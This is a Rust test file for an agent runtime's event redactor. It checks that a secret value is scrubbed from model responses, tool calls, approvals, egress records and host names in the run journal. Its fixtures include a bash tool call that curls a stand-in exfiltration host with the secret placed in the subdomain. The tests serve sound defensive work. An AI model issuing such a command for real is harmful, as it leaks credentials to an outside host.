//! `redact_event`: every string of every event kind the worker journals, host names and
//! ids included, with the identifiers the run needs kept and the log still decoding.

use pretty_assertions::assert_eq;
use serde_json::json;
use toren_protocol::{
    ApprovalPolicy, ApprovalRequested, AssistantMessage, ConnectionOutcome, EgressConnection,
    EgressConnections, EventKind, HostApprovalRequested, ModelResponded, ResolvedPolicy, RunFailed,
    SandboxProvisioned, ToolCall, ToolCompleted, ToolStarted, Usage,
};
use toren_redact::Redactor;

use super::{event_redactor, redact_event};

const VALUE: &str = "hunter2secretvalue";
const MARK: &str = "[redacted:MY_DB_PASSWORD]";

fn redactor() -> Redactor {
    Redactor::new([("MY_DB_PASSWORD", VALUE)])
}

fn text_of(kind: &EventKind) -> String {
    serde_json::to_string(kind).unwrap()
}

#[test]
fn every_string_of_every_kind_is_redacted_keys_and_ids_included() {
    let kinds = vec![
        EventKind::ModelResponded(ModelResponded {
            message: AssistantMessage {
                text: format!("using {VALUE}"),
                tool_calls: vec![ToolCall {
                    id: format!("call_{VALUE}"),
                    name: "bash".into(),
                    arguments: json!({"command": format!("curl http://{VALUE}.exfil.test/"),
                                      VALUE: [VALUE]}),
                    wire_id: Some(format!("toolu_{VALUE}")),
                }],
            },
            stop_reason: "tool_use".into(),
            usage: Usage::default(),
            model: "m".into(),
        }),
        EventKind::ApprovalRequested(ApprovalRequested {
            call_id: format!("call_{VALUE}"),
            tool: "bash".into(),
            command: format!("echo {VALUE}"),
            attempt: 1,
        }),
        EventKind::ToolCompleted(ToolCompleted {
            call_id: "c1".into(),
            output: format!("{VALUE}\n"),
            is_error: false,
            exit_code: Some(0),
            truncated: false,
        }),
        EventKind::RunFailed(RunFailed {
            error: format!("tool `{VALUE}` failed"),
        }),
        EventKind::HostApprovalRequested(HostApprovalRequested::new(
            &format!("{VALUE}.exfil.test"),
            80,
            Some(("c1".into(), format!("curl http://{VALUE}.exfil.test/"))),
        )),
    ];
    for kind in kinds {
        let name = kind.name();
        let redacted = redact_event(&redactor(), kind);
        assert_eq!(redacted.name(), name);
        let text = text_of(&redacted);
        assert!(!text.contains(VALUE), "{text}");
        assert!(text.contains(MARK), "{text}");
    }
}

#[test]
fn a_host_approval_keeps_its_id_made_from_its_redacted_host() {
    let request = HostApprovalRequested::new(&format!("{VALUE}.exfil.test"), 80, None);
    let EventKind::HostApprovalRequested(redacted) =
        redact_event(&redactor(), EventKind::HostApprovalRequested(request))
    else {
        panic!("not a host approval");
    };
    let host = "[redacted:my_db_password].exfil.test";
    assert_eq!(
        (redacted.host.as_str(), redacted.id.as_str()),
        (host, format!("host:{host}").as_str())
    );
    assert_eq!(
        redacted.id,
        toren_protocol::host_approval_id(&redacted.host)
    );
}

#[test]
fn a_value_in_a_field_of_fixed_vocabulary_leaves_it_and_the_rest_is_redacted() {
    // `deni` is in the outcome's `denied` and in the host: the outcome stays an outcome,
    // the host is redacted; the tag `tool_started` and the checkpoint hash stay as written.
    let redactor = Redactor::new([("SHORT", "deni"), ("TAG", "tool")]);
    let connections = EventKind::EgressConnections(EgressConnections {
        connections: vec![EgressConnection {
            host: "deni.exfil.test".into(),
            port: 80,
            method: "GET".into(),
            outcome: ConnectionOutcome::Denied,
            reason: Some("not on the list".into()),
            address: None,
            bytes_up: 0,
            bytes_down: 0,
            call_id: None,
        }],
    });
    let EventKind::EgressConnections(redacted) = redact_event(&redactor, connections) else {
        panic!("not egress connections");
    };
    assert_eq!(redacted.connections[0].host, "[redacted:short].exfil.test");
    assert_eq!(redacted.connections[0].outcome, ConnectionOutcome::Denied);

    let started = EventKind::ToolStarted(ToolStarted {
        call_id: "toolcall".into(),
        tool: "bash".into(),
        attempt: 1,
        checkpoint: Some("toolhash".into()),
    });
    assert_eq!(
        redact_event(&redactor, started),
        EventKind::ToolStarted(ToolStarted {
            call_id: "[redacted:TAG]call".into(),
            tool: "bash".into(),
            attempt: 1,
            checkpoint: Some("toolhash".into()),
        })
    );
    let provisioned = EventKind::SandboxProvisioned(SandboxProvisioned {
        backend: "local".into(),
        instance: "/home/tool/ws".into(),
        workspace: "/home/tool/ws".into(),
        envd_version: None,
        origin: None,
    });
    assert_eq!(redact_event(&redactor, provisioned.clone()), provisioned);
}

#[test]
fn the_event_redactor_finds_a_value_in_the_case_a_host_name_is_journaled_in() {
    let policy = ResolvedPolicy {
        backend: "local".into(),
        image: None,
        network: false,
        egress: None,
        approval: ApprovalPolicy::Never,
        env: vec!["MY_DB_PASSWORD".into()],
        limits: Default::default(),
        workspace: None,
        on_interrupt: Default::default(),
        sandbox_key: None,
        volume: None,
        checkpoints: Default::default(),
    };
    let env = |name: &str| (name == "MY_DB_PASSWORD").then(|| "Hunter2Secret".to_owned());
    let redactor = event_redactor(Some(&policy), &env);
    let request = HostApprovalRequested::new("Hunter2Secret.exfil.test", 80, None);
    assert_eq!(request.host, "hunter2secret.exfil.test", "the proxy's case");
    let text = text_of(&redact_event(
        &redactor,
        EventKind::HostApprovalRequested(request),
    ));
    assert!(
        !text.to_ascii_lowercase().contains("hunter2secret"),
        "{text}"
    );
}
